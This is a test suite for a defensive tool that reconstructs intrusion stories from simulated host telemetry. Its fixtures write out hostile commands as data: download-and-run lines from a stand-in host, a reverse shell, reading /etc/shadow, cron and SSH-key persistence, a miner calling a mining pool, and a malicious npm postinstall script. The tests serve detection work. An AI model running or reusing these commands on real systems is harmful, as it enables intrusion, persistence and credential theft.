import { beforeEach, describe, expect, it } from 'vitest';
import { alertOf, attacker, connect, type Disk, emptyDisk, labels, logOn, members, pool, worldOf, write } from '../../../test/story-scenes.ts';
import { clock, event, Machine, t0 } from '../../../test/told-machine.ts';
import type { Finding } from '../../core/finding.ts';
import type { Story } from '../../core/incident.ts';
import type { ProcessNode } from '../../core/lineage.ts';
import { tellStory } from './story.ts';
import type { StoryWorld } from './story-world.ts';

let machine: Machine, disk: Disk;
beforeEach(() => {
  clock.now = t0;
  machine = new Machine();
  disk = emptyDisk();
});

const tell = (...alerts: ReturnType<typeof alertOf>[]): Story => tellStory({ alerts, findings: [] }, worldOf(machine, disk));
const edge = (story: Story, deed: string, from: RegExp, to: RegExp): boolean => {
  const label = new Map(story.nodes.map(({ id, label }) => [id, label]));
  return story.edges.some((one) => one.deed === deed && from.test(label.get(one.from) ?? '') && to.test(label.get(one.to) ?? ''));
};

describe('a web page that runs commands', () => {
  /** The shell drops a script, the script a cron line and a miner that calls its pool. */
  function intrusion() {
    const master = machine.seen(900, 1, '/usr/sbin/php-fpm8.2', 'php-fpm: master process', { cgroup: '/system.slice/php8.2-fpm.service', user: 'root' });
    const worker = machine.run(master, '/usr/sbin/php-fpm8.2', 'php-fpm: pool www', { user: 'www-data' });
    // Another page of the same worker that makes thumbnails.
    const other = machine.run(worker, '/bin/sh', 'sh -c convert in.png out.png');
    write(machine, disk, other, '/var/www/html/out.png', 'png');
    machine.end(other);
    clock.now += 20_000;
    disk.requests.push(event('access', { source_ip: attacker, http_method: 'POST', url_path: '/uploads/s.php', url_query: 'token=abcdef' }));
    const shell = machine.run(worker, '/bin/sh', 'sh -c curl http://198.51.100.7/d.sh -o /var/tmp/.d.sh && sh /var/tmp/.d.sh');
    const curl = machine.run(shell, '/usr/bin/curl', 'curl http://198.51.100.7/d.sh -o /var/tmp/.d.sh');
    connect(machine, curl, pool, 80);
    write(machine, disk, curl, '/var/tmp/.d.sh', 'x');
    machine.end(curl);
    const dropper = machine.run(shell, '/bin/sh', 'sh /var/tmp/.d.sh');
    write(machine, disk, dropper, '/var/tmp/.cache/kworkerd', 'elf');
    const crontab = machine.run(dropper, '/usr/bin/crontab', 'crontab -');
    write(machine, disk, crontab, '/var/spool/cron/crontabs/www-data', '# own\n5 4 * * * /usr/bin/php /var/www/html/cron.php\n* * * * * /var/tmp/.cache/kworkerd -q\n', { isNew: false });
    machine.end(crontab);
    const miner = machine.run(dropper, '/var/tmp/.cache/kworkerd', 'kworkerd -o stratum+tcp://pool.example:3333');
    machine.end(dropper);
    machine.end(shell);
    const called = connect(machine, miner, '198.51.100.99', 3333, 'pool.example');
    return { called, miner, worker };
  }

  it('is told of what a worker ran that was only heard of before, and of the upload before it; the application itself is no part', () => {
    machine.seen(900, 1, '/usr/sbin/php-fpm8.2', 'php-fpm: master process', { cgroup: '/system.slice/php8.2-fpm.service', user: 'root' });
    const worker = machine.run(900, '/usr/sbin/php-fpm8.2', 'php-fpm: pool www', { user: 'www-data' });
    const page = '/var/www/html/up/logo.php';
    const put = write(machine, disk, worker, page, '<?php', { from: '/tmp/php1' });
    disk.requests.push(event('access', { source_ip: '203.0.113.80', http_method: 'GET', url_path: '/index.php' }), event('access', { source_ip: attacker, http_method: 'POST', url_path: '/upload.php' }), event('access', { source_ip: attacker, http_method: 'POST', url_path: '/up/logo.php' }));
    const shell = machine.fork(970);
    machine.exec(shell, '/bin/sh', 'sh -c bash -i', { parent_pid: 971, parent_path: '/usr/sbin/php-fpm8.2', parent_cmdline: 'php-fpm: pool www' });
    const bash = machine.run(shell, '/bin/bash', 'bash -i');
    const story = tell(alertOf(put), alertOf(connect(machine, bash, pool, 4444)), alertOf(event('access', { source_ip: attacker, url_path: '/up/logo.php' })));
    expect(story.entry).toMatchObject({ kind: 'web', address: attacker, request: 'POST /upload.php' });
    const app = machine.run(1, '/usr/bin/node', 'node /srv/app/server.js', { cgroup: '/system.slice/app.service' });
    machine.tell('listener', app, { action: 'listener-start', destination_port: 3000, protocol: 'tcp', direction: 'listening' });
    const child = machine.run(app, '/usr/bin/node', 'node /srv/app/worker.js');
    machine.tell('listener', child, { action: 'listener-start', destination_port: 3001, protocol: 'tcp', direction: 'listening' });
    const ran = machine.run(child, '/bin/sh', 'sh -c curl http://198.51.100.7/x');
    expect(members(tell(alertOf(connect(machine, ran, pool, 80))))).toEqual(['sh -c curl http://198.51.100.7/x']);
  });

  it('is told from the request to the pool', () => {
    const { called } = intrusion();
    const story = tell(alertOf(called));
    expect(story.entry).toMatchObject({ kind: 'web', service: 'php-fpm', address: attacker, request: 'POST /uploads/s.php?token=***' });
    expect(members(story)).toEqual(['crontab -', 'curl http://198.51.100.7/d.sh -o /var/tmp/.d.sh', 'kworkerd -o stratum+tcp://pool.example:3333', 'sh -c curl http://198.51.100.7/d.sh -o /var/tmp/.d.sh && sh /var/tmp/.d.sh', 'sh /var/tmp/.d.sh']);
    expect(labels(story, 'file')).toEqual(['/var/tmp/.cache/kworkerd', '/var/tmp/.d.sh']);
    expect(labels(story, 'persistence')).toEqual(['/var/spool/cron/crontabs/www-data', '/var/spool/cron/crontabs/www-data:3: * * * * * /var/tmp/.cache/kworkerd -q']);
    expect(labels(story, 'address')).toContain('198.51.100.99 (pool.example)');
    expect(edge(story, 'wrote', /^curl/, /d\.sh$/) && edge(story, 'ran', /^sh \/var/, /d\.sh$/) && edge(story, 'planted', /crontab/, /:3:/) && edge(story, 'started', /^sh \/var/, /kworkerd/)).toBe(true);
    // The worker is the way in and no part of it; its other page is neither.
    expect(labels(story, 'process', ({ facts }) => facts['chain'] === true)).toEqual(['php-fpm: pool www']);
    expect(JSON.stringify(story)).not.toContain('out.png');
    expect(story.left).toBe(0);
    expect(story.nodes.find(({ id }) => id.startsWith('process') && id.includes(':') && story.edges.some((e) => e.deed === 'tells' && e.to === id))?.attack).toEqual(['T1059']);
  });

  it('goes on in the job that it planted', () => {
    const { worker } = intrusion();
    expect(worker).toBeGreaterThan(0);
    clock.now += 60_000;
    const cron = machine.seen(700, 1, '/usr/sbin/cron', '/usr/sbin/cron -f', { cgroup: '/system.slice/cron.service' });
    const job = machine.fork(cron);
    machine.graph.observe(event('cron', { action: 'cron-run', pid: job, user: 'www-data', process_name: 'cron', process_cmdline: '/var/tmp/.cache/kworkerd -q' }));
    machine.exec(job, '/bin/sh', '/bin/sh -c /var/tmp/.cache/kworkerd -q');
    const again = machine.run(job, '/var/tmp/.cache/kworkerd', '/var/tmp/.cache/kworkerd -q');
    const told = machine.tell('process_creation', again, { process_path: '/var/tmp/.cache/kworkerd', process_cmdline: '/var/tmp/.cache/kworkerd -q' });
    const story = tell(alertOf(told));
    // From the job alone back to the one who wrote the miner, and with it the way in.
    expect(edge(story, 'started', /:3: /, /sh -c|kworkerd/)).toBe(true);
    expect(edge(story, 'wrote', /d\.sh/, /kworkerd/)).toBe(true);
    expect(story.entry).toMatchObject({ kind: 'web' });
  });
});

describe('a log-on', () => {
  it('is a story of what leads to the alarm and comes of it, not of what else an administrator does there', () => {
    const { shell } = logOn(machine, 'harbour', '192.0.2.77');
    const vim = machine.run(shell, '/usr/bin/vim', 'vim /etc/nginx/nginx.conf');
    write(machine, disk, vim, '/etc/nginx/nginx.conf', 'server {}', { isNew: false });
    machine.end(vim);
    const wget = machine.run(shell, '/usr/bin/wget', 'wget -q http://198.51.100.7/tool -O /tmp/tool');
    write(machine, disk, wget, '/tmp/tool', 'elf');
    connect(machine, wget, pool, 80);
    machine.end(wget);
    const chmod = machine.run(shell, '/usr/bin/chmod', 'chmod +x /tmp/tool');
    machine.tell('file_event', chmod, { action: 'chmod', file_path: '/tmp/tool' });
    machine.end(chmod);
    const tail = machine.run(shell, '/usr/bin/tail', 'tail -f /var/log/syslog');
    const tool = machine.run(shell, '/tmp/tool', '/tmp/tool --daemon');
    const child = machine.run(tool, '/bin/sh', 'sh -c cat /etc/shadow');
    machine.tell('file_event', child, { action: 'read', file_path: '/etc/shadow' });
    const story = tell(alertOf(connect(machine, tool, '198.51.100.99', 443)));
    expect(members(story)).toEqual(['/tmp/tool --daemon', 'chmod +x /tmp/tool', 'sh -c cat /etc/shadow', 'wget -q http://198.51.100.7/tool -O /tmp/tool']);
    expect(story.entry).toMatchObject({ kind: 'login', user: 'harbour', address: '192.0.2.77' });
    expect(labels(story, 'secret')).toEqual(['/etc/shadow']);
    expect(labels(story, 'account')).toEqual(['harbour']);
    expect(JSON.stringify(story)).not.toContain('nginx.conf');
    expect(JSON.stringify(story)).not.toContain('tail -f');
    expect(labels(story, 'process', ({ facts }) => facts['chain'] === true)).toContain('-bash');
    expect(tail).toBeGreaterThan(0);
  });

  it('that guessing led to is a story as a whole, as far as its shell wrote keys', () => {
    const failed = event('sshd', { action: 'login', outcome: 'failure', source_ip: attacker, user: 'root', pid: 4000 });
    const { shell } = logOn(machine, 'root', attacker);
    const admin = logOn(machine, 'harbour', '192.0.2.77');
    machine.run(admin.shell, '/usr/bin/top', 'top');
    machine.run(shell, '/usr/bin/id', 'id');
    write(machine, disk, shell, '/root/.ssh/authorized_keys', 'ssh-ed25519 AAAA own\nssh-ed25519 BBBB evil\n', { isNew: false });
    const story = tell(alertOf(failed));
    expect(members(story)).toEqual(['id']);
    expect(labels(story, 'persistence')).toEqual(['/root/.ssh/authorized_keys']);
    expect(story.entry).toMatchObject({ kind: 'login', user: 'root', address: attacker });
    expect(JSON.stringify(story)).not.toContain('harbour');
  });

  it('knows the key line by the command that wrote it', () => {
    const { shell } = logOn(machine, 'root', attacker);
    const sh = machine.run(shell, '/bin/sh', 'sh -c echo ssh-ed25519 BBBBevil x@y >> /root/.ssh/authorized_keys; /dev/shm/.x');
    write(machine, disk, sh, '/root/.ssh/authorized_keys', 'ssh-ed25519 AAAA own\nssh-ed25519 BBBBevil x@y\n', { isNew: false });
    const tool = machine.run(sh, '/dev/shm/.x', '/dev/shm/.x');
    const story = tell(alertOf(connect(machine, tool, pool, 1)));
    expect(labels(story, 'persistence', ({ facts }) => facts['line'] !== undefined)).toEqual(['/root/.ssh/authorized_keys:2: ssh-ed25519 BBBBevil x@y']);
  });

  it('is known by its line where the script that wrote it holds that line', () => {
    const { shell } = logOn(machine, 'root', attacker);
    const curl = machine.run(shell, '/usr/bin/curl', 'curl -o /tmp/go.sh http://198.51.100.7/go.sh');
    write(machine, disk, curl, '/tmp/go.sh', 'echo ssh-ed25519 BBBBevil x@y >> ~/.ssh/authorized_keys\n/dev/shm/.x\n');
    machine.end(curl);
    const script = machine.run(shell, '/bin/sh', 'sh /tmp/go.sh');
    write(machine, disk, script, '/root/.ssh/authorized_keys', 'ssh-ed25519 AAAAown me@desk\nssh-ed25519 BBBBevil x@y\n', { isNew: false });
    const evil = machine.run(script, '/dev/shm/.x', '/dev/shm/.x');
    const story = tell(alertOf(connect(machine, evil, pool, 443)));
    expect(labels(story, 'persistence', ({ facts }) => facts['line'] !== undefined)).toEqual(['/root/.ssh/authorized_keys:2: ssh-ed25519 BBBBevil x@y']);
  });

  it('ties what one session wrote to what another runs, and the one from the same address whole', () => {
    const first = logOn(machine, 'root', attacker);
    const scp = machine.run(first.shell, '/usr/bin/scp', 'scp -t /opt/x');
    write(machine, disk, scp, '/opt/x/agent', 'elf');
    write(machine, disk, scp, '/opt/x/config', 'cfg');
    machine.end(scp);
    const second = logOn(machine, 'root', attacker);
    const agent = machine.run(second.shell, '/opt/x/agent', '/opt/x/agent');
    const story = tell(alertOf(connect(machine, agent, pool, 443)));
    expect(members(story)).toEqual(['/opt/x/agent', 'scp -t /opt/x']);
    expect(labels(story, 'file')).toEqual(['/opt/x/agent', '/opt/x/config']);
  });

  it('of a deployment days before is only tied by the file that it brought', () => {
    const deploy = logOn(machine, 'deploy', '192.0.2.80');
    const rsync = machine.run(deploy.shell, '/usr/bin/rsync', 'rsync --server . /opt/app');
    write(machine, disk, rsync, '/opt/app/worker', 'elf');
    write(machine, disk, rsync, '/opt/app/other', 'elf');
    machine.end(rsync);
    clock.now += 3_600_000;
    const intruder = logOn(machine, 'root', attacker);
    const shell = machine.run(intruder.shell, '/bin/sh', 'sh -c /opt/app/worker --leak');
    const worker = machine.run(shell, '/opt/app/worker', '/opt/app/worker --leak');
    const story = tell(alertOf(connect(machine, worker, pool, 443)));
    expect(members(story)).toEqual(['/opt/app/worker --leak', 'sh -c /opt/app/worker --leak']);
    expect(labels(story, 'process', ({ facts }) => facts['weak'] === true)).toEqual(['rsync --server . /opt/app']);
    expect(labels(story, 'file')).toEqual(['/opt/app/worker']);
    expect(story.entry).toMatchObject({ user: 'root', address: attacker });
  });
});

describe('what carries the work of others', () => {
  it('is not part of it: a database that ran a command', () => {
    const redis = machine.seen(950, 1, '/usr/bin/redis-server', '/usr/bin/redis-server 0.0.0.0:6379', { cgroup: '/system.slice/redis-server.service' });
    machine.tell('network_connection', redis, { action: 'accept', direction: 'inbound', source_ip: attacker, source_port: 1, destination_port: 6379 });
    const cron = write(machine, disk, redis, '/var/spool/cron/crontabs/root', 'REDIS0009\n* * * * * curl -fsSL http://198.51.100.7/x | sh\n');
    const story = tell(alertOf(cron));
    expect(members(story)).toEqual([]);
    expect(labels(story, 'persistence')).toEqual(['/var/spool/cron/crontabs/root']);
    expect(story.entry).toMatchObject({ kind: 'service', service: 'redis-server', address: attacker });
  });

  it('is not part of it: the package manager whose script mines', () => {
    const { shell } = logOn(machine, 'dev', '192.0.2.77');
    const npm = machine.run(shell, '/usr/bin/node', 'npm install left-mine');
    const script = machine.run(npm, '/bin/sh', 'sh -c node postinstall.js');
    const mine = machine.run(script, '/tmp/.npm-x/m', '/tmp/.npm-x/m');
    const story = tell(alertOf(connect(machine, mine, pool, 3333)));
    expect(members(story)).toEqual(['/tmp/.npm-x/m', 'sh -c node postinstall.js']);
    expect(story.entry).toMatchObject({ kind: 'package', service: 'npm' });
  });

  it('names the package whose script did it, with all that it brought, and not whoever installed it', () => {
    const { shell } = logOn(machine, 'dev', '192.0.2.77');
    const npm = machine.run(shell, '/usr/bin/node', 'npm ci', { process_cwd: '/srv/shop' });
    const folder = '/srv/shop/node_modules/@pad/left';
    for (const file of ['package.json', 'index.js', 'lib/setup.js']) write(machine, disk, npm, `${folder}/${file}`, 'x');
    write(machine, disk, npm, '/srv/shop/node_modules/good/index.js', 'x');
    const script = machine.run(npm, '/bin/sh', 'sh -c node lib/setup.js', { process_cwd: folder });
    const node = machine.run(script, '/usr/bin/node', 'node lib/setup.js', { process_cwd: folder });
    write(machine, disk, node, '/home/dev/.cache/.f/m', 'elf');
    const mine = machine.run(node, '/home/dev/.cache/.f/m', '/home/dev/.cache/.f/m', { process_cwd: '/srv/shop/node_modules/good' });
    const story = tell(alertOf(connect(machine, mine, pool, 3333)));
    expect(story.entry).toMatchObject({ kind: 'package', service: 'npm', package: '@pad/left', user: 'dev' });
    expect(story.entry?.address).toBeUndefined();
    expect(story.entry?.text.en).toBe('a script of the package @pad/left that npm ran while it installed (run by dev from 192.0.2.77)');
    expect(story.nodes.find(({ kind }) => kind === 'package')).toMatchObject({ id: `package:${folder}`, label: '@pad/left', facts: { manager: 'npm', path: folder } });
    expect(labels(story, 'file')).toEqual(['/home/dev/.cache/.f/m', `${folder}/index.js`, `${folder}/lib/setup.js`, `${folder}/package.json`]);
    expect(story.nodes.find(({ id }) => id === 'address:192.0.2.77')?.facts['weak']).toBe(true);
  });

  it('names a package of too many files without them', () => {
    const { shell } = logOn(machine, 'dev', '192.0.2.77');
    const npm = machine.run(shell, '/usr/bin/node', 'npm ci', { process_cwd: '/srv/shop' });
    for (let i = 0; i < 150; i++) disk.files.set(`/srv/shop/node_modules/large/${i}.js`, { text: 'x', born: clock.now });
    const script = machine.run(npm, '/bin/sh', 'sh -c node setup.js', { process_cwd: '/srv/shop/node_modules/large' });
    const story = tell(alertOf(connect(machine, script, pool, 3333)));
    expect(story.nodes.find(({ kind }) => kind === 'package')?.facts).toMatchObject({ name: 'large', large: true });
    expect(labels(story, 'file').filter((path) => path.includes('large'))).toEqual([]);
  });

  it('takes no name for it where nobody installs programs', () => {
    const { shell } = logOn(machine, 'root', attacker);
    const fake = machine.run(shell, '/tmp/.x/nginx', 'nginx: worker process');
    machine.run(fake, '/bin/sh', 'sh -c id');
    const story = tell(alertOf(connect(machine, fake, pool, 3333)));
    expect(members(story)).toEqual(['nginx: worker process', 'sh -c id']);
  });

  it('leaves packages out of it that a package manager brought on the way', () => {
    const { shell } = logOn(machine, 'root', attacker);
    const sh = machine.run(shell, '/bin/sh', 'sh -c apt-get install -y masscan; /tmp/m');
    const apt = machine.run(sh, '/usr/bin/apt-get', 'apt-get install -y masscan');
    const dpkg = machine.run(apt, '/usr/bin/dpkg', 'dpkg --unpack masscan.deb');
    write(machine, disk, dpkg, '/usr/bin/masscan', 'elf');
    disk.owners.set('/usr/bin/masscan', { manager: 'dpkg', name: 'masscan', version: '1', intact: true });
    const m = machine.run(sh, '/tmp/m', '/tmp/m');
    const story = tell(alertOf(connect(machine, m, pool, 1)));
    expect(members(story)).toEqual(['/tmp/m', 'apt-get install -y masscan', 'sh -c apt-get install -y masscan; /tmp/m']);
    expect(labels(story, 'file')).toEqual(['/tmp/m']);
  });
});

describe('a container', () => {
  const id = 'c'.repeat(64), layer = '/var/lib/docker/overlay2/a/merged';
  const begin = (): number => machine.seen(700, 1, '/bin/busybox', 'httpd -f -h /www', { container_id: id, cgroup: `/system.slice/docker-${id}.scope` });

  it('that has the files of the host mounted writes on the host, and in its own layer', () => {
    disk.mounts = { [id]: { '/host/': '/', '/': `${layer}/` } };
    const server = begin();
    machine.tell('network_connection', server, { action: 'accept', direction: 'inbound', source_ip: attacker, source_port: 1, destination_port: 8080 });
    const sh = machine.run(server, '/bin/busybox', 'sh /tmp/out.sh', { container_id: id });
    const told = (path: string, here: string, text: string): void => {
      disk.files.set(here, { text, born: clock.now });
      machine.tell('file_event', sh, { action: 'create', file_path: path, container_id: id });
    };
    told('/tmp/out.sh', `${layer}/tmp/out.sh`, 'x');
    told('/host/usr/lib/.netd/netd', '/usr/lib/.netd/netd', 'elf');
    told('/host/etc/cron.d/netd', '/etc/cron.d/netd', '17 3 * * * root /usr/lib/.netd/netd\n');
    // The same name in the image, changed there: it was before.
    disk.files.set(`${layer}/etc/passwd`, { text: 'x', born: clock.now });
    machine.tell('file_event', sh, { action: 'write', file_path: '/etc/passwd', container_id: id });
    const story = tell(alertOf(connect(machine, sh, pool, 3333)));
    expect(story.entry).toMatchObject({ kind: 'container', address: attacker });
    expect(story.nodes.find(({ id: one }) => one === `address:${attacker}`)?.facts).toMatchObject({ came: true });
    expect(story.nodes.find(({ id: one }) => one === `address:${attacker}`)?.facts['weak']).toBeUndefined();
    // The server that it came by serves others on.
    expect(members(story)).toEqual(['sh /tmp/out.sh']);
    expect(labels(story, 'file', ({ facts }) => facts['made'] === true)).toEqual(['/usr/lib/.netd/netd', `${layer}/tmp/out.sh`]);
    expect(labels(story, 'persistence')).toEqual(['/etc/cron.d/netd', '/etc/cron.d/netd:1: 17 3 * * * root /usr/lib/.netd/netd']);
    expect(story.nodes.find(({ label }) => label === `${layer}/etc/passwd`)?.facts['made']).toBeUndefined();
    expect(edge(story, 'planted', /^sh/, /cron\.d/)).toBe(true);
    // Whatever of the host runs it is of the story.
    const job = machine.run(1, '/usr/lib/.netd/netd', '/usr/lib/.netd/netd');
    expect(members(tell(alertOf(connect(machine, sh, pool, 3334))))).toContain(machine.node(job).cmdline);
  });

  it('of which nothing is known has its own files, whatever the host calls so', () => {
    const sh = machine.run(begin(), '/bin/busybox', 'sh -c x', { container_id: id });
    machine.tell('file_event', sh, { action: 'create', file_path: '/etc/cron.d/x', container_id: id });
    disk.files.set('/etc/cron.d/x', { text: 'own', born: 1 });
    const story = tell(alertOf(connect(machine, sh, pool, 3333)));
    expect(labels(story, 'persistence')).toEqual([]);
    expect(story.nodes.find(({ kind }) => kind === 'file')).toMatchObject({ label: '/etc/cron.d/x', facts: { container: id } });
    expect(story.nodes.find(({ kind }) => kind === 'file')?.lives).toBeUndefined();
  });
});

describe('findings', () => {
  const finding = (more: Partial<Finding>): Finding => ({ id: 'f1', check: 'cron', kind: 'intrusion', level: 'high', title: { zh: '可疑计划任务', en: 'a suspicious job' }, evidence: [], refs: ['attack:T1053.003', 'matrix:计划任务'], ...more });

  it('tell a story without anything that was seen live', () => {
    disk.files.set('/etc/crontab', { text: 'SHELL=/bin/sh\n* * * * * root /tmp/.x/m\n', born: 1 });
    disk.files.set('/tmp/.x/m', { text: 'elf', born: 1 });
    const story = tellStory({ alerts: [], findings: [finding({ path: '/etc/crontab', evidence: [{ what: { zh: '', en: '' }, value: '* * * * * root /tmp/.x/m', path: '/etc/crontab', line: 2 }], links: ['/tmp/.x/m'] })] }, worldOf(machine, disk));
    expect(labels(story, 'persistence')).toEqual(['/etc/crontab:2: * * * * * root /tmp/.x/m']);
    expect(labels(story, 'file')).toEqual(['/tmp/.x/m']);
    expect(story.nodes.find(({ kind }) => kind === 'persistence')).toMatchObject({ matrix: ['计划任务'], facts: { planted: true, line: 2 } });
    expect(story.entry).toBeUndefined();
  });

  it('that are open doors are named and nothing follows from them', () => {
    const story = tellStory({ alerts: [], findings: [finding({ kind: 'weakness', path: '/etc/ssh/sshd_config' })] }, worldOf(machine, disk));
    expect(story.nodes.map(({ kind }) => kind)).toEqual(['finding']);
  });

  it('whose line is another by now names nothing', () => {
    disk.files.set('/etc/crontab', { text: 'SHELL=/bin/sh\n0 1 * * * root backup\n', born: 1 });
    const story = tellStory({ alerts: [], findings: [finding({ evidence: [{ what: { zh: '', en: '' }, value: '* * * * * root /tmp/.x/m', path: '/etc/crontab', line: 2 }] })] }, worldOf(machine, disk));
    expect(labels(story, 'persistence')).toEqual([]);
  });
});

describe('large stories', () => {
  /** A tree of this many processes, each of which writes one file. */
  function forest(n: number): { world: StoryWorld & { steps: number }; seed: ProcessNode } {
    const origin = { kind: 'login', user: 'root', source_ip: attacker, since: t0 } as const;
    const world = { steps: 0 } as unknown as StoryWorld & { steps: number };
    const nodes: Node[] = [];
    interface Node extends ProcessNode { readonly children: Node[] }
    for (let i = 0; i < n; i++) {
      const parent = i === 0 ? undefined : nodes[Math.floor((i - 1) / 4)];
      const children: Node[] = [];
      const node = {
        pid: 10 + i, started: t0 + i, name: 'x', path: `/tmp/x${i}`, cmdline: `/tmp/x${i}`, cwd: '/', uid: 0, user: 'root', terminal: undefined, cgroup: undefined, container: undefined, parent, ended: undefined, exit_code: undefined, origin,
        was: [], wrote: [{ what: `/tmp/x${i * 4 + 1}`, count: 1, first: t0 + i, last: t0 + i, action: 'create' }], read: [], spoke: [{ what: '', count: 1, first: t0, last: t0, direction: 'outbound', ip: '198.51.100.7', port: 80 }], asked: [], forgotten: 0, writtenBy: undefined,
        get children() { world.steps++; return children; },
        get root() { world.steps++; return nodes[0]!; },
      } as unknown as Node;
      nodes.push(node);
      if (parent) (Object.getOwnPropertyDescriptor(parent, 'children')!.get!() as Node[]).push(node);
    }
    world.steps = 0;
    Object.assign(world, {
      lineage: { of: () => undefined, process: (pid: number) => nodes[pid - 10], writer: () => { world.steps++; return undefined; } }, processes: () => nodes, owner: () => { world.steps++; return undefined; }, look: () => { world.steps++; return undefined; },
      apart: new Set(), text: () => undefined, files: () => undefined, onHost: () => undefined, cronTables: () => [], requests: () => [], since: undefined, now: t0 + 3_600_000,
    });
    return { world, seed: nodes[0]! };
  }
  const story = (n: number): { told: Story; steps: number } => {
    const { world, seed } = forest(n);
    const told = tellStory({ alerts: [alertOf(event('process_creation', { pid: seed.pid, process_started: seed.started }))], findings: [] }, world, { nodes: 10_000, edges: 50_000 });
    return { told, steps: world.steps };
  };

  it('are bounded, say how much is left out, and take work that grows as they do', () => {
    const small = story(1000), large = story(8000);
    expect(small.told.left).toBe(0);
    expect(small.told.nodes.length).toBeGreaterThan(2000);
    expect(large.told.nodes.length).toBe(10_000);
    expect(large.told.left).toBeGreaterThan(2000);
    expect(large.steps / small.steps).toBeLessThan(10);
  });
});
